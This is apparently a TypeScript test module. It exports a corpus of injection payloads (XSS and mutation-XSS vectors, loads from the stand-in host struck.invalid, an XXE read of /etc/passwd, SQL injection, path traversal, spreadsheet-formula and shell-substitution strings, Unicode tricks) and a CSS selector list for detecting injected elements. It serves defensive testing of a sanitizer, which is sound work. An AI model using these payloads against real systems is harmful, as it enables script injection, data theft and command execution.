/** What somebody may type to make a page do what it says: known classes of injection, each calling `struck`. */

const CALL = 'struck(1)';

/** Written for this system after the classes named in OWASP's filter-evasion and mXSS notes. */
export const CORPUS: string[] = [
  // Tags that run or load by themselves.
  ...['script', 'SCRIPT', 'sCrIpT x', 'script/x', 'script\n'].map((tag) => `<${tag}>${CALL}</script>`),
  `"><script>${CALL}</script>`, `'><script>${CALL}</script>`, `</textarea><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`, `</style><script>${CALL}</script>`, `--><script>${CALL}</script>`,
  `]]><script>${CALL}</script>`, `<script src=data:,${CALL}></script>`, `<script src=//struck.invalid/x.js></script>`,
  // Handlers.
  ...['img src=x onerror', 'img/src=x/onerror', 'svg onload', 'svg/onload', 'body onload', 'input autofocus onfocus', 'select autofocus onfocus',
    'video src=x onerror', 'audio src=x onerror', 'details open ontoggle', 'marquee onstart', 'iframe onload', 'object data=x onerror',
    'style onload', 'div style=animation:x onanimationstart', 'a autofocus tabindex=1 onfocus'].map((tag) => `<${tag}=${CALL}>`),
  `<IMG """><SCRIPT>${CALL}</SCRIPT>">`, `<img src=x:x onerror\u0009=${CALL}>`, `<img src="x" \u000aonerror="${CALL}">`,
  // Attributes that are left early.
  ...['"', "'", '`', '&quot;', '&#34;', '\\"'].map((quote) => `${quote} onmouseover=${CALL} autofocus onfocus=${CALL} x=${quote}`),
  // Addresses.
  ...['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', ' javascript:', '&#106;avascript:', '//%0ajavascript:', 'vbscript:'].map((scheme) => `${scheme}${CALL}`),
  `<a href="javascript:${CALL}">点</a>`, `<iframe src="javascript:${CALL}"></iframe>`, `<form action="javascript:${CALL}"><input type=submit>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`, `<object data="data:text/html,<script>parent.${CALL}</script>"></object>`,
  `data:text/html;base64,PHNjcmlwdD5zdHJ1Y2soMSk8L3NjcmlwdD4=`, `<base href="//struck.invalid/">`, `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<link rel=stylesheet href=//struck.invalid/x.css>`, `<img src=//struck.invalid/x.png>`, `<embed src=//struck.invalid/x.swf>`,
  // Drawings.
  `<svg><script>${CALL}</script></svg>`, `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${CALL}"><text y=9>点</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${CALL}'/>#x"/></svg>`, `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`,
  `<math><mtext><img src=x onerror=${CALL}></mtext></math>`, `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>`,
  // What one parse makes harmless and the next one does not.
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
  `<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`, `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${CALL} src>">`,
  `<template><script>${CALL}</script></template>`, `<xmp><p title="</xmp><svg/onload=${CALL}>">`, `<listing>&lt;img onerror="${CALL}" src=x&gt;</listing>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`, `&amp;lt;script&amp;gt;${CALL}`, `%3Cscript%3E${CALL}%3C/script%3E`, `\\u003cscript\\u003e${CALL}`, `\\x3cscript\\x3e${CALL}`,
  `＜script＞${CALL}＜/script＞`, `<scr\u0131pt>${CALL}</script>`, `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  // Style sheets.
  `<style>@import'//struck.invalid/x.css';</style>`, `<div style="background:url(javascript:${CALL})">`, `}*{background:url(//struck.invalid/x)}`, `";}</style><script>${CALL}</script>`,
  // What becomes part of a program, a template, a question or a file.
  `\${${CALL}}`, `{{${CALL}}}`, `{{constructor.constructor('${CALL}')()}}`, `<%= ${CALL} %>`, `#{${CALL}}`, `';${CALL};//`, `";${CALL};//`, `\\';${CALL};//`,
  `</script><script>${CALL}</script>`, `<!--<script>${CALL}`, `{"__proto__":{"x":1}}`, `__proto__`, `constructor`, `[click](javascript:${CALL})`, `![x](x"onerror="${CALL})`,
  `' OR 1=1 --`, `"; DROP TABLE op; --`, `../../../etc/passwd`, `..\\..\\windows`, `%2e%2e%2f`, `=cmd|' /C calc'!A0`, `@SUM(1)`, `+1+1`, `＝1`,
  `#import "@preview/x:1.0": *`, `#read("/etc/passwd")`, `\\input{/etc/passwd}`, `$(id)`, `\`id\``, `%s%s%n`, `%n%x`,
  // What makes the eye read something else.
  `张\u202e三\u2066四\u2069`, `王\u200b五\u200d\ufeff`, `\u2028${CALL}\u2029`, `Z\u0335\u0322\u0300algo`, `\ufdfd\u{1f469}\u200d\u{1f469}\u200d\u{1f467}`, '\ufffe\uffff', `${'長'.repeat(60)}`,
];

/** Elements and handlers that nothing but an injection puts on a page. */
export const TRACES = [
  'script:not([src])', 'base', 'object', 'embed', 'marquee', 'math', 'foreignObject', 'meta[http-equiv=refresh]', 'iframe:not([src^="blob:"])',
  ...['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onstart', 'onbegin', 'onanimationstart'].map((name) => `[${name}]`),
  '[href^="javascript:" i]', '[src^="javascript:" i]', '[href*="struck.invalid"]', '[src*="struck.invalid"]',
].join(',');
